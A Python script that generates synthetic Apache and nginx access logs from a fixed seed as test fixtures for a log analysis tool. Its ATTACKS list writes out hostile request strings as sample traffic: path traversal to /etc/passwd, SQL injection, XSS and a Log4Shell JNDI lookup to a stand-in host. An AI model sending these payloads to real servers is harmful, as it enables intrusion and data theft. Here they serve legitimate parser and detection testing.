#!/usr/bin/env python3
"""Writes the small committed sample logs under data/samples/.

    python3 data/generators/make-samples.py            # rewrite data/samples/
    python3 data/generators/make-samples.py --check    # exit 1 if the committed files differ

Every line is made up here from a fixed seed; nothing is copied from a real log. Addresses come
from the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32,
RFC 5737 / RFC 3849) plus a few private and loopback ones; host names use example.* (RFC 2606).

Only random.Random.random() is used (never choice/randrange/shuffle): Python guarantees that
random() gives the same sequence for the same seed on every version, so the output is
byte-identical wherever the script runs.
"""

import argparse
import os
import sys
from datetime import datetime, timedelta, timezone
import random

SEED = 20240309
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SAMPLES = os.path.join(REPO_ROOT, "data", "samples")


class Rng:
    """Deterministic picks built on random() alone (see the module docstring)."""

    def __init__(self, seed):
        self._r = random.Random(seed)

    def unit(self):
        return self._r.random()

    def below(self, n):
        return int(self._r.random() * n)

    def pick(self, seq):
        return seq[self.below(len(seq))]

    def weighted(self, pairs):
        total = sum(w for _, w in pairs)
        x = self._r.random() * total
        for value, w in pairs:
            x -= w
            if x < 0:
                return value
        return pairs[-1][0]

    def chance(self, p):
        return self._r.random() < p


CLIENTS_V4 = [
    "192.0.2.10", "192.0.2.11", "192.0.2.77", "192.0.2.200",
    "198.51.100.4", "198.51.100.23", "198.51.100.42", "198.51.100.250",
    "203.0.113.5", "203.0.113.9", "203.0.113.66", "203.0.113.129",
    "10.0.0.15", "10.20.30.40", "172.16.5.9", "127.0.0.1",
]
CLIENTS_V6 = ["2001:db8::1", "2001:db8:85a3::8a2e:370:7334", "2001:db8:1:2::ff", "::1", "fe80::1c2d:3eff:fe4f:5a6b"]
CLIENT_HOSTS = ["crawler-7.example.net"]
# Heavy hitters first: a few clients make most of the traffic, as in real logs.
CLIENT_WEIGHTS = ([(ip, 12) for ip in CLIENTS_V4[:3]] + [(ip, 3) for ip in CLIENTS_V4[3:]]
                  + [(ip, 2) for ip in CLIENTS_V6] + [(h, 2) for h in CLIENT_HOSTS])

USERS = ["alice", "bob", "svc-deploy"]

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; ExampleCrawler/1.4; +https://crawler.example.net/about)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Wget/1.21.3",
]
SCANNERS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"]
# User agents with escaped quotes, as Apache writes them (\" inside the quoted field).
ESCAPED_UAS = [
    'Mozilla/5.0 (compatible; \\"QuotedBot\\"/1.0; +https://bot.example.org)',
    'Custom-Agent \\"beta\\" build 7',
]

REFERERS = [
    "https://www.example.com/",
    "https://www.example.com/blog/2024/03/release-notes",
    "https://search.example.org/search?q=fast+log+analyzer&lang=en",
    "https://shop.example.com/cart?step=2",
    "http://localhost:8080/dashboard",
    "android-app://com.example.reader/",
]

STATIC = ["/", "/index.html", "/about", "/pricing", "/blog/", "/blog/2024/03/release-notes",
          "/static/css/site.css", "/static/js/app.js", "/static/img/logo.png", "/favicon.ico",
          "/robots.txt", "/sitemap.xml", "/docs/getting-started", "/docs/cli#analyze", "/downloads/fastlog-0.1.0.tar.gz"]
SEARCHES = ["/search?q=log+analyzer", "/search?q=nginx%20timeouts&page=2", "/search?q=%E2%9C%93&lang=de",
            "/products?id=42&sort=price_desc", "/products?category=shoes&size=10&color=blue"]
UUIDS = ["3f1c2a9e-8b7d-4e6f-9a0b-1c2d3e4f5a6b", "a0b1c2d3-e4f5-4a6b-8c7d-9e0f1a2b3c4d",
         "deadbeef-0000-4000-8000-123456789abc"]
ATTACKS = ["/wp-login.php", "/.env", "/.git/config", "/cgi-bin/../../../../etc/passwd",
           "/index.php?id=1%27%20OR%20%271%27=%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
           "/phpmyadmin/index.php", "/api/v1/users?name=${jndi:ldap://203.0.113.66/a}"]


def api_path(rng):
    kind = rng.below(6)
    if kind == 0:
        return "/api/users/%d" % (100 + rng.below(900))
    if kind == 1:
        return "/api/users/%d/orders" % (100 + rng.below(900))
    if kind == 2:
        return "/api/orders/%s" % rng.pick(UUIDS)
    if kind == 3:
        return "/api/v1/items?limit=%d&offset=%d" % (rng.pick([10, 25, 50]), 25 * rng.below(8))
    if kind == 4:
        return "/api/sessions/%08x%08x" % (rng.below(1 << 32), rng.below(1 << 32))
    return "/api/health"


def clf_time(dt):
    off = dt.utcoffset()
    minutes = int(off.total_seconds() // 60)
    sign = "+" if minutes >= 0 else "-"
    minutes = abs(minutes)
    return "%02d/%s/%04d:%02d:%02d:%02d %s%02d%02d" % (
        dt.day, MONTHS[dt.month - 1], dt.year, dt.hour, dt.minute, dt.second, sign, minutes // 60, minutes % 60)


class Clock:
    """Walks forward through several days; busier by day than by night (diurnal)."""

    def __init__(self, rng, start_utc, offsets):
        self._rng = rng
        self._t = start_utc
        self._offsets = offsets

    def next(self):
        hour = self._t.hour
        busy = 9 <= hour <= 22
        step = 20 + self._rng.below(400 if busy else 2400)
        self._t += timedelta(seconds=step)
        tz = timezone(timedelta(hours=self._rng.pick(self._offsets)))
        return self._t.astimezone(tz)


def request_and_status(rng, method_weights):
    """Returns (method, target, status, bytes-or-None)."""
    roll = rng.unit()
    if roll < 0.50:
        target = rng.pick(STATIC)
    elif roll < 0.62:
        target = rng.pick(SEARCHES)
    elif roll < 0.90:
        target = api_path(rng)
    elif roll < 0.96:
        target = rng.pick(ATTACKS)
    else:
        target = "/old-page-%d.html" % rng.below(20)
    method = rng.weighted(method_weights)
    if target.startswith("/api/") and rng.chance(0.35):
        method = rng.weighted([("POST", 5), ("PUT", 3), ("DELETE", 2)])
    if target in ATTACKS:
        status = rng.weighted([(404, 6), (403, 3), (400, 1), (500, 1)])
    elif target.startswith("/old-page-"):
        status = rng.weighted([(301, 3), (404, 2)])
    elif target.startswith("/downloads/"):
        status = rng.weighted([(200, 3), (206, 2)])
    elif target.startswith("/api/"):
        status = rng.weighted([(200, 20), (401, 2), (403, 1), (404, 2), (400, 1), (500, 1), (503, 1)])
    else:
        status = rng.weighted([(200, 20), (304, 5), (404, 1), (301, 1)])
    if method == "POST" and status == 200 and rng.chance(0.3):
        status = 201
    if status in (304, 204) or method == "HEAD" and rng.chance(0.7):
        size = None
    elif status == 206:
        size = 65536
    elif status >= 300:
        size = 150 + rng.below(400)
    elif target.startswith("/static/") or target.startswith("/downloads/"):
        size = 2000 + rng.below(120000)
    else:
        size = 300 + rng.below(25000)
    return method, target, status, size


def user_agent(rng, target):
    if target in ATTACKS:
        return rng.pick(SCANNERS + BOTS[3:])
    roll = rng.unit()
    if roll < 0.68:
        return rng.pick(BROWSERS)
    if roll < 0.94:
        return rng.pick(BOTS)
    return rng.pick(ESCAPED_UAS)


def referer(rng):
    return "-" if rng.chance(0.45) else rng.pick(REFERERS)


def protocol(rng):
    return rng.weighted([("HTTP/1.1", 8), ("HTTP/2.0", 3), ("HTTP/1.0", 1)])


# ---------------------------------------------------------------------------------------------
# combined


def combined_lines(count=420):
    rng = Rng(SEED)
    clock = Clock(rng, datetime(2024, 3, 9, 6, 0, 0, tzinfo=timezone.utc), [-7, -7, 2])
    methods = [("GET", 86), ("POST", 6), ("HEAD", 5), ("PUT", 2), ("DELETE", 1)]
    lines = []
    for _ in range(count):
        client = rng.weighted(CLIENT_WEIGHTS)
        user = rng.pick(USERS) if rng.chance(0.05) else "-"
        method, target, status, size = request_and_status(rng, methods)
        lines.append('%s - %s [%s] "%s %s %s" %d %s "%s" "%s"' % (
            client, user, clf_time(clock.next()), method, target, protocol(rng), status,
            "-" if size is None else str(size), referer(rng), user_agent(rng, target)))

    # Hand-placed lines. Each one is at a fixed index so that a failing test can name it.
    specials = {
        # A request target with escaped quotes (Apache escapes " as \").
        37: '198.51.100.42 - - [09/Mar/2024:09:14:07 -0700] "GET /search?q=\\"quoted+phrase\\" HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"',
        # A backslash escape inside the user agent.
        58: '203.0.113.9 - - [09/Mar/2024:10:02:44 -0700] "GET /docs/getting-started HTTP/1.1" 200 8812 "https://www.example.com/" "Agent with \\\\ backslash and \\"quotes\\""',
        # Garbage: not an access log line at all.
        91: "<<< this is not an access log line: just some garbage text >>>",
        # Blank line.
        120: "",
        # Truncated in the middle of the request (the writer died mid-line).
        147: '192.0.2.77 - - [10/Mar/2024:02:11:09 +0200] "GET /static/js/app.js HTT',
        # Impossible date and time.
        176: '198.51.100.4 - - [32/Foo/2024:25:61:99 -0700] "GET / HTTP/1.1" 200 1024 "-" "curl/8.5.0"',
        # Status is not a number.
        203: '203.0.113.5 - - [10/Mar/2024:11:45:00 -0700] "GET /pricing HTTP/1.1" 2O0 3321 "-" "curl/8.5.0"',
        # Raw (unescaped) spaces inside the request target: awk's $9 is no longer the status.
        231: '192.0.2.10 - - [10/Mar/2024:12:00:01 -0700] "GET /files/annual report 2023.pdf HTTP/1.1" 404 196 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"',
        # A request line with only a method and no target or protocol (as sent by some scanners).
        259: '203.0.113.66 - - [10/Mar/2024:13:13:13 +0200] "-" 400 0 "-" "-"',
        # A 404-byte response to a 200: grep ' 404 ' counts it, a parser must not.
        288: '192.0.2.11 - - [10/Mar/2024:14:04:04 -0700] "GET /robots.txt HTTP/1.1" 200 404 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"',
        # Authenticated user with a long UUID path.
        317: '2001:db8::1 - alice [11/Mar/2024:08:30:00 +0200] "DELETE /api/orders/a0b1c2d3-e4f5-4a6b-8c7d-9e0f1a2b3c4d HTTP/1.1" 204 - "-" "python-requests/2.31.0"',
    }
    for index in sorted(specials):
        lines.insert(index, specials[index])
    return lines


def write_combined(path):
    lines = combined_lines()
    # One CRLF line (a file touched by a Windows tool); the file ends without a final newline.
    crlf_index = 64
    parts = []
    for i, line in enumerate(lines):
        parts.append(line)
        if i == len(lines) - 1:
            break
        parts.append("\r\n" if i == crlf_index else "\n")
    return "".join(parts)


# ---------------------------------------------------------------------------------------------
# common


def write_common(path):
    rng = Rng(SEED + 1)
    clock = Clock(rng, datetime(2024, 2, 27, 7, 30, 0, tzinfo=timezone.utc), [-7])
    methods = [("GET", 90), ("POST", 5), ("HEAD", 4), ("PUT", 1)]
    lines = []
    for _ in range(100):
        client = rng.weighted(CLIENT_WEIGHTS)
        user = rng.pick(USERS) if rng.chance(0.1) else "-"
        method, target, status, size = request_and_status(rng, methods)
        lines.append('%s - %s [%s] "%s %s %s" %d %s' % (
            client, user, clf_time(clock.next()), method, target, protocol(rng), status,
            "-" if size is None else str(size)))
    # The classic example line of the Apache documentation's shape, with our own values.
    lines.insert(0, '127.0.0.1 - frank [27/Feb/2024:06:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326')
    # One malformed line: missing the closing quote of the request.
    lines.insert(50, '192.0.2.200 - - [27/Feb/2024:19:00:00 -0700] "GET /index.html HTTP/1.1 200 512')
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------------------------------------
# nginx (combined + $request_time)


def write_nginx(path):
    rng = Rng(SEED + 2)
    clock = Clock(rng, datetime(2024, 3, 1, 0, 0, 0, tzinfo=timezone.utc), [0])
    methods = [("GET", 80), ("POST", 12), ("HEAD", 4), ("PUT", 3), ("DELETE", 1)]
    lines = []
    for _ in range(200):
        client = rng.weighted(CLIENT_WEIGHTS)
        user = rng.pick(USERS) if rng.chance(0.03) else "-"
        method, target, status, size = request_and_status(rng, methods)
        # nginx writes 0, not "-", for an empty body ($body_bytes_sent).
        body = 0 if size is None else size
        if target.startswith("/api/"):
            seconds = 0.002 + rng.unit() ** 3 * 1.5
        else:
            seconds = rng.unit() ** 4 * 0.2
        if status in (500, 503):
            seconds += 2.0 + rng.unit() * 3.0
        lines.append('%s - %s [%s] "%s %s %s" %d %d "%s" "%s" %.3f' % (
            client, user, clf_time(clock.next()), method, target, protocol(rng), status, body,
            referer(rng), user_agent(rng, target), seconds))
    # A TLS handshake sent to the plain-HTTP port: nginx logs the raw bytes escaped as \xHH.
    lines.insert(77, '203.0.113.129 - - [01/Mar/2024:13:37:00 +0000] "\\x16\\x03\\x01\\x00\\xF1\\x01\\x00\\x00\\xED\\x03\\x03" 400 157 "-" "-" 0.001')
    # An empty request (client connected and closed): nginx logs "" with status 400.
    lines.insert(140, '198.51.100.250 - - [02/Mar/2024:04:20:00 +0000] "" 400 0 "-" "-" 0.000')
    return "\n".join(lines) + "\n"


OUTPUTS = [
    ("combined/access.log", write_combined),
    ("common/access.log", write_common),
    ("nginx/access.log", write_nginx),
]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="compare with the files on disk instead of writing")
    parser.add_argument("--out", default=SAMPLES, help="output folder (default: data/samples)")
    args = parser.parse_args()
    differ = 0
    for rel, make in OUTPUTS:
        path = os.path.join(args.out, rel)
        data = make(path).encode("utf-8")
        if args.check:
            try:
                with open(path, "rb") as f:
                    same = f.read() == data
            except FileNotFoundError:
                same = False
            print("%s %s" % ("ok  " if same else "DIFF", rel))
            differ += 0 if same else 1
        else:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)
            print("wrote %s (%d bytes, %d lines)" % (rel, len(data), data.count(b"\n")))
    return 1 if differ else 0


if __name__ == "__main__":
    sys.exit(main())
